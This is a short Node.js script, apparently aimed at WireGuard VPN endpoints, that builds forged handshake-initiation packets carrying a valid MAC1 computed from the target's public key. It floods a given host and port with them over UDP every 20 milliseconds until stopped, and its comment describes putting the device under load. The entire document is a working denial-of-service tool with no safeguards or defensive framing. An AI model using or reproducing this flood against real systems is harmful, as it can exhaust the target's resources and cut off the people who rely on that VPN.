// Handshake initiations with a valid MAC1 and nothing else behind it: flood.mjs HOST PORT PUBLIC_KEY sends them until it is
// ended, so that the device there is under load.
import { randomFillSync } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { blake2s } from '@noble/hashes/blake2.js'

const [host, port, publicKey] = process.argv.slice(2)
const key = blake2s(Buffer.concat([Buffer.from('mac1----'), Buffer.from(publicKey, 'base64')]))
const messages = Array.from({ length: 500 }, () => {
  const message = randomFillSync(Buffer.alloc(148))
  message.writeUInt32LE(1, 0)
  message.fill(0, 132)
  message.set(blake2s(message.subarray(0, 116), { key, dkLen: 16 }), 116)
  return message
})
const socket = createSocket('udp4')
socket.on('error', () => {})
console.log('flooding')
setInterval(() => {
  for (const message of messages) socket.send(message, Number(port), host)
}, 20)
